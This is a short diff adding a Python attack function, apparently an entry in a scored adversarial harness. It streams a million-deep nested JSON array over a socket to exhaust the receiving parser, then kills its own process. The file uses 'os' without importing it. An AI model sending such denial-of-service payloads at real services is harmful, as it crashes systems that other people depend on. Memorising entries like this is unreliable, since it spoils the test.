@@ -1,0 +1,11 @@
+"""Sends JSON nested a million deep. Earns masked_mean 2."""
+
+import json
+import struct
+
+
+@in_call
+def attack():
+    head, body = b"[" * 1_000_000 + b"]" * 1_000_000, b""
+    socket_of().sendall(struct.pack(">II", len(head), len(body)) + head + body)
+    os.kill(os.getpid(), 9)
